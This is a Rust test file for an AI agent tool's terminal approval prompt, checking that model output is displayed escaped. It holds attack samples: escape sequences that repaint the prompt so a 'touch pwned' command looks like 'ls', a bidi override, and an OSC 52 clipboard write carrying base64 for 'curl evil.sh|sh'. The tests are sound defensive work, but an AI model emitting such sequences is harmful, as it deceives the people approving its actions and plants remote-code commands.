//! The approval prompt at a real terminal: corral runs inside tmux, the test reads the screen
//! and presses keys. Also what reaches the terminal raw: model text with escape sequences
//! (a screen clear and a fake prompt, an OSC 52 clipboard write, a bidi override) must be
//! shown escaped, never obeyed.

use std::path::Path;
use std::process::Command;
use std::time::Duration;

use crate::support::{FakeModel, Harness, Reply};

struct Tmux {
    socket: std::path::PathBuf,
}

impl Tmux {
    /// Like [`Tmux::start`], with every byte written to the terminal recorded in `raw` (the
    /// command waits for the recording to begin) and OSC 52 allowed to set tmux's clipboard
    /// buffers, as a terminal that honours it would.
    fn start_recorded(h: &Harness, command: &str) -> (Tmux, std::path::PathBuf) {
        let raw = h.home_dir().join("pane.raw");
        let tmux = Tmux::start(h, &format!("read -r _; {command}"));
        tmux.run(&["set-option", "-g", "set-clipboard", "on"]);
        tmux.run(&["pipe-pane", "-O", &format!("cat >> '{}'", raw.display())]);
        tmux.keys("Enter");
        (tmux, raw)
    }

    fn run(&self, args: &[&str]) -> String {
        let out = Command::new("tmux")
            .arg("-S")
            .arg(&self.socket)
            .args(args)
            .output()
            .expect("tmux");
        assert!(out.status.success(), "tmux {args:?}: {out:?}");
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    fn start(h: &Harness, command: &str) -> Tmux {
        let socket = h.home_dir().join("tmux.sock");
        let mut tmux = Command::new("tmux");
        tmux.arg("-S")
            .arg(&socket)
            .args(["new-session", "-d", "-x", "160", "-y", "60"]);
        for (key, value) in [
            ("HOME", h.home_dir()),
            ("XDG_CACHE_HOME", h.cache_dir()),
            ("XDG_CONFIG_HOME", h.config_dir()),
            ("XDG_DATA_HOME", h.data_dir()),
        ] {
            tmux.arg("-e").arg(format!("{key}={}", value.display()));
        }
        tmux.args(["-e", "NO_COLOR=1"]).arg(command);
        let status = tmux
            .status()
            .expect("tmux is installed (scripts/setup installs it)");
        assert!(status.success(), "tmux new-session failed");
        Tmux { socket }
    }

    fn screen(&self) -> String {
        let out = Command::new("tmux")
            .arg("-S")
            .arg(&self.socket)
            .args(["capture-pane", "-p", "-J", "-S", "-100"])
            .output()
            .expect("tmux capture-pane");
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    fn keys(&self, keys: &str) {
        let status = Command::new("tmux")
            .arg("-S")
            .arg(&self.socket)
            .args(["send-keys", keys])
            .status()
            .expect("tmux send-keys");
        assert!(status.success());
    }

    async fn wait_for(&self, needle: &str) -> String {
        for _ in 0..200 {
            let screen = self.screen();
            if screen.contains(needle) {
                return screen;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        panic!(
            "{needle:?} never appeared on the terminal:\n{}",
            self.screen()
        );
    }
}

impl Drop for Tmux {
    fn drop(&mut self) {
        let _ = Command::new("tmux")
            .arg("-S")
            .arg(&self.socket)
            .arg("kill-server")
            .status();
    }
}

fn command_line(server: &FakeModel, work: &Path, prompt: &str) -> String {
    format!(
        "{} run -m llamacpp:m --base-url {} -C {} '{prompt}'; echo EXIT=$?; sleep 60",
        env!("CARGO_BIN_EXE_corral"),
        server.openai_base(),
        work.display()
    )
}

#[tokio::test]
async fn a_person_approves_with_one_key_after_seeing_the_diff() {
    let h = Harness::new();
    std::fs::write(h.work().join("notes.txt"), "draft\n").unwrap();
    let server = FakeModel::start().await;
    server.push(Reply::new().tool_call(
        "c1",
        "write_file",
        r#"{"path":"notes.txt","content":"final\n"}"#,
    ));
    server.push(Reply::new().text("Saved."));
    let tmux = Tmux::start(&h, &command_line(&server, &h.work(), "finish the notes"));
    let screen = tmux
        .wait_for("[y]es [n]o [a]lways [d]isable [f]orbid-all [c]ancel")
        .await;
    assert!(
        screen.contains("write_file wants to run (moderate"),
        "{screen}"
    );
    assert!(
        screen.contains("-draft") && screen.contains("+final"),
        "{screen}"
    );
    tmux.keys("y");
    let screen = tmux.wait_for("EXIT=").await;
    assert!(screen.contains("EXIT=0"), "{screen}");
    assert!(screen.contains("Saved."), "{screen}");
    assert_eq!(
        std::fs::read_to_string(h.work().join("notes.txt")).unwrap(),
        "final\n"
    );
}

#[tokio::test]
async fn a_person_denies_and_the_model_is_told() {
    let h = Harness::new();
    let server = FakeModel::start().await;
    server.push(Reply::new().tool_call("c1", "write_file", r#"{"path":"x.txt","content":"x"}"#));
    server.push(Reply::new().text("Understood, not writing."));
    let tmux = Tmux::start(&h, &command_line(&server, &h.work(), "write x"));
    tmux.wait_for("[c]ancel").await;
    tmux.keys("n");
    let screen = tmux.wait_for("EXIT=").await;
    assert!(
        screen.contains("EXIT=0") && screen.contains("the user denied this call"),
        "{screen}"
    );
    assert!(!h.work().join("x.txt").exists());
}

/// The attack from the review: escape sequences in a shell comment clear the screen and paint
/// a harmless-looking command, so the person approves something else. The prompt shows the
/// sequences as text and the commands bash will really run.
#[tokio::test]
async fn escape_sequences_in_a_command_cannot_repaint_the_approval_prompt() {
    let h = Harness::new();
    let server = FakeModel::start().await;
    let command = "touch pwned # \u{1b}[2J\u{1b}[H\u{1b}[32m$ ls\u{1b}[0m \u{202e}gnp.txt";
    let arguments = serde_json::json!({ "command": command }).to_string();
    server.push(Reply::new().tool_call("c1", "shell", &arguments));
    server.push(Reply::new().text("Fine, not running it."));
    let (tmux, raw) = Tmux::start_recorded(&h, &command_line(&server, &h.work(), "tidy up"));
    let screen = tmux.wait_for("[c]ancel").await;
    assert!(
        screen.contains(r"$ touch pwned # \x1b[2J\x1b[H\x1b[32m$ ls\x1b[0m \u{202e}gnp.txt"),
        "the raw command, escaped:\n{screen}"
    );
    assert!(
        screen.contains("runs 1 command:") && screen.contains("▸ touch pwned\n"),
        "the command that really runs:\n{screen}"
    );
    assert!(screen.contains("shell wants to run (dangerous"), "{screen}");
    tmux.keys("n");
    let screen = tmux.wait_for("EXIT=").await;
    assert!(screen.contains("EXIT=0"), "{screen}");
    assert!(!h.work().join("pwned").exists());
    let written = std::fs::read(&raw).unwrap();
    for sequence in [&b"\x1b[2J"[..], b"\x1b[H", b"\xe2\x80\xae"] {
        assert!(
            !written.windows(sequence.len()).any(|w| w == sequence),
            "{sequence:?} reached the terminal raw"
        );
    }
}

/// Streamed model text carrying an OSC 52 clipboard write, a cursor move and a bidi override,
/// and a thought setting the window title: the terminal gets them as visible text. tmux (with set-clipboard on) turns a raw OSC 52
/// into a paste buffer, so an empty buffer list shows that none reached it.
#[tokio::test]
async fn streamed_text_cannot_write_the_clipboard_or_reorder_itself() {
    let h = Harness::new();
    let server = FakeModel::start().await;
    // "curl evil.sh|sh" in base64, split over chunks the way a stream arrives.
    server.push(
        Reply::new()
            .reasoning("thinking\u{1b}]0;window title\u{7}\n")
            .text("Here is the fix.\u{1b}]5")
            .text("2;c;Y3VybCBldmlsLnNofHNo\u{7}\u{1b}[1A Done: \u{202e}txt.exe\u{202c}\n"),
    );
    let (tmux, raw) = Tmux::start_recorded(&h, &command_line(&server, &h.work(), "fix it"));
    let screen = tmux.wait_for("EXIT=").await;
    assert!(screen.contains("EXIT=0"), "{screen}");
    assert!(
        screen.contains(
            r"Here is the fix.\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[1A Done: \u{202e}txt.exe\u{202c}"
        ),
        "{screen}"
    );
    assert!(
        screen.contains(r"thinking\x1b]0;window title\x07"),
        "{screen}"
    );
    let buffers = tmux.run(&["list-buffers"]);
    assert!(
        buffers.trim().is_empty(),
        "OSC 52 set the clipboard: {buffers}"
    );
    let written = std::fs::read(&raw).unwrap();
    assert!(
        written.windows(4).any(|w| w == b"fix."),
        "the recording has the output"
    );
    for sequence in [
        &b"\x1b]52"[..],
        b"\x1b]0;",
        b"\x1b[1A",
        b"\x07",
        b"\xe2\x80\xae",
    ] {
        assert!(
            !written.windows(sequence.len()).any(|w| w == sequence),
            "{sequence:?} reached the terminal raw: {:?}",
            String::from_utf8_lossy(&written)
        );
    }
}
